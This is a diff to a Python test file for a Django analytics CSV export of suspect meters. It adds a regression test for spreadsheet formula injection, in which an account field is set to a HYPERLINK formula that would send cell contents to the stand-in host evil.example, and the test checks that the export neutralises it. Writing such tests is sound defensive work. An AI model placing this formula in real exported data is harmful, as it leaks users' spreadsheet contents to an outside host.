@@ -80,6 +80,10 @@ def test_it_filters_suspects_and_exports_what_is_shown(
     assert len(text.strip().splitlines()) == 1 + MeterSuspect.objects.filter(run=run, score__gte=0.9).count()
     for junk in ({"min_score": "abc"}, {"league": "<script>"}, {"page": "999"}):
         assert client.get(f"/analytics/meters/{run.pk}/", junk).status_code == 200
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"x")'  # issue 14: came out raw in this export
+    MeterSuspect.objects.filter(run=run, account_id=FARM_ACCOUNT).update(account_id=attack)
+    exported = client.get(f"/analytics/meters/{run.pk}/export.csv").content.decode("utf-8-sig")
+    assert "'" + attack.replace('"', '""') in exported and "," + attack not in exported
 
 
 @pytest.mark.parametrize(
